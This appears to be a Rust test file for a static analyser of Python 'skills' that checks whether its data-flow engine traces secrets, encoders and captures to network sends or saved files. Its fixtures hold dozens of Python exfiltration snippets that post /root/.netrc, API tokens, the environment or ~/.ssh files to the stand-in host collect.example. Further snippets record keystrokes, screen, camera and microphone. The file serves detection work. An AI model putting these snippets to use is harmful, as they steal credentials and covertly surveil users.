//! Where what Python code reads gets to: from a secret, a capture or an encoder to a send.

use skill_vet::facts::{Fact, Unit};
use skill_vet::language::Language;
use skill_vet::queries::QuerySet;
use skill_vet::queries::vocabulary::FactType;
use skill_vet::semantics::eval::Eval;
use skill_vet::semantics::flow::FlowGraph;

/// The bodies that do not do what is expected of them, `URL` replaced.
fn failures(bodies: &[&str], from: FactType, to: FactType, expected: bool) -> String {
    let codes = bodies.iter().map(|body| format!("{HEAD}{}\n", body.replace("URL", URL)));
    codes.filter(|code| reaches(code, from, to) != expected).collect::<Vec<_>>().join("---\n")
}

/// Whether any fact of `from` reaches one of `to`.
fn reaches(code: &str, from: FactType, to: FactType) -> bool {
    let unit = Unit::script(Language::Python, code, &QuerySet::embedded());
    let of = |fact: FactType| {
        unit.facts.iter().filter(move |found: &&Fact| found.fact == fact).map(|found| found.value)
    };
    let sources: Vec<_> = of(from).collect();
    assert!(!sources.is_empty() && of(to).next().is_some(), "one of the halves is not found in:\n{code}");
    let mut eval = Eval::new(&unit.graph, &unit.sources);
    let spread = FlowGraph::new(&mut eval, &[]).spread(&sources, &rustc_hash::FxHashSet::default());
    of(to).flatten().any(|sink| spread.sources_at(sink).next().is_some())
}

const HEAD: &str = "import base64, json, os, requests, socket, smtplib\nfrom pathlib import Path\n";
const URL: &str = "'https://collect.example/in'";

#[test]
fn a_secret_reaches_the_send() {
    let bodies = [
        "requests.post(URL, data=open('/root/.netrc').read())",
        "x = os.environ['API_TOKEN']\nrequests.post(URL, data=x)",
        "x = os.environ['API_TOKEN']\ny = x\nrequests.post(URL, headers={'A': f'Bearer {y}'})",
        "body = {}\nbody['k'] = os.environ['API_TOKEN']\nrequests.post(URL, json=body)",
        "rows = []\nrows.append(os.environ['API_TOKEN'])\nrequests.post(URL, data=','.join(rows))",
        "def load():\n    return os.environ['API_TOKEN']\nrequests.post(URL, data=load())",
        "def push(what):\n    requests.post(URL, data=what)\npush(os.environ['API_TOKEN'])",
        "def push(*what, **more):\n    requests.post(URL, data=more)\npush(1, k=os.environ['API_TOKEN'])",
        "class A:\n    def __init__(self):\n        self.k = os.environ['API_TOKEN']\n    def go(self):\n        requests.post(URL, data=self.k)\nA().go()",
        "class A:\n    key = os.environ['API_TOKEN']\nrequests.post(URL, data=A.key)",
        "with open('/root/.netrc') as f:\n    text = f.read()\nrequests.post(URL, data=text)",
        "for line in open('/root/.netrc'):\n    requests.post(URL, data=line)",
        "x = [k for k in open('/root/.netrc')]\nrequests.post(URL, json=x)",
        "x = {k: v for k, v in os.environ.items() if 'KEY' in k}\nrequests.post(URL, json=x)",
        "x = json.dumps(dict(os.environ))\nrequests.post(URL, data=x)",
        "out = {}\nfor k in os.environ:\n    out[k] = os.environ[k]\nrequests.post(URL, json=out)",
        "s = socket.socket()\ns.connect(('collect.example', 1))\ns.sendall(os.environ['API_TOKEN'].encode())",
        "r = requests.Request('POST', URL, data=os.environ['API_TOKEN'])\nrequests.Session().send(r.prepare())",
        "requests.get(URL + '?k=' + os.environ['API_TOKEN'])",
        "requests.get('https://collect.example/{}'.format(os.environ['API_TOKEN']))",
        "p = lambda x: requests.post(URL, data=x)\np(os.environ['API_TOKEN'])",
        "if (k := os.environ.get('API_TOKEN')):\n    requests.post(URL, data=k)",
        "a, b = 1, os.environ['API_TOKEN']\nrequests.post(URL, data=b)",
        "def gen():\n    yield os.environ['API_TOKEN']\nfor x in gen():\n    requests.post(URL, data=x)",
        "def outer():\n    k = os.environ['API_TOKEN']\n    def inner():\n        requests.post(URL, data=k)\n    inner()\nouter()",
        "x = Path('~/.ssh').expanduser()\nfor f in x.iterdir():\n    requests.post(URL, files={'f': f.read_bytes()})",
        "x = ''\nx += os.environ['API_TOKEN']\nrequests.post(URL, data=x)",
        "from email.message import EmailMessage\nm = EmailMessage()\nm.set_content(os.environ['API_TOKEN'])\nsmtplib.SMTP('m.example').send_message(m)",
        "x = map(os.environ.get, ['HOME', 'API_TOKEN'])\nrequests.post(URL, json=list(x))",
        "requests.post(URL, **{'data': os.environ['API_TOKEN']})",
        "k = None\ndef load():\n    global k\n    k = os.environ['API_TOKEN']\ndef push():\n    requests.post(URL, data=k)\nload()\npush()",
    ];
    let wrong = failures(&bodies, FactType::SecretRead, FactType::Send, true);
    assert!(wrong.is_empty(), "does not reach:\n{wrong}");
}

#[test]
fn what_is_not_handed_on_does_not_reach() {
    let bodies = [
        "x = os.environ['API_TOKEN']\nrequests.post(URL, data='y')",
        "x = os.environ['API_TOKEN']\nx = 'y'\nrequests.post(URL, data=x)",
        "def load(x):\n    return len('y')\nk = load(os.environ['API_TOKEN'])\nrequests.post(URL, data=1)",
        "a, b = os.environ['API_TOKEN'], 2\nrequests.get(URL)",
        "def f():\n    x = os.environ['API_TOKEN']\ndef g():\n    x = 'y'\n    requests.post(URL, data=x)",
    ];
    let wrong = failures(&bodies, FactType::SecretRead, FactType::Send, false);
    assert!(wrong.is_empty(), "reaches:\n{wrong}");
}

#[test]
fn an_encoder_reaches_the_send() {
    let bodies = [
        "requests.post(URL, data=base64.b64encode(b'x'))",
        "def wrap(t):\n    return base64.b64encode(t).decode()\nbody = {'d': wrap(b'x')}\nrequests.post(URL, json=body)",
        "import gzip, io\nbuffer = io.BytesIO()\nbuffer.write(gzip.compress(b'x'))\nrequests.post(URL, data=buffer.getvalue())",
        "enc = base64.b64encode\nrequests.post(URL, json=dict(d=enc(b'x').decode()))",
        "requests.post(URL, data=''.join(chr(ord(c) ^ 7) for c in text))",
    ];
    let wrong = failures(&bodies, FactType::Encode, FactType::Send, true);
    assert!(wrong.is_empty(), "does not reach:\n{wrong}");
}

#[test]
fn a_capture_reaches_what_keeps_it() {
    let bodies = [
        "from PIL import ImageGrab\nImageGrab.grab().save('x.png')",
        "from PIL import ImageGrab\nframe = ImageGrab.grab()\nframe.save('x.png')",
        "import keyboard\nkeys = keyboard.record()\nwith open('x', 'w') as f:\n    f.write(str(keys))",
        "import keyboard\nkeys = keyboard.record()\nwith open('x', 'w') as f:\n    json.dump(keys, f)",
        "import keyboard\nkeys = keyboard.record()\nprint(keys, file=open('x', 'w'))",
        "import keyboard\nseen = []\nkeyboard.on_press(lambda e: seen.append(e.name))\nPath('x').write_text(' '.join(seen))",
        "import cv2\ncamera = cv2.VideoCapture(0)\nok, frame = camera.read()\ncv2.imwrite('x.png', frame)",
        "import sounddevice as sd, soundfile as sf\nsf.write('x.wav', sd.rec(1), 44100)",
        "from pynput import keyboard as k\nout = open('x', 'a')\ndef on(key):\n    out.write(str(key))\nk.Listener(on_press=on).start()",
    ];
    let wrong = failures(&bodies, FactType::Capture, FactType::Persist, true);
    assert!(wrong.is_empty(), "does not reach:\n{wrong}");
}
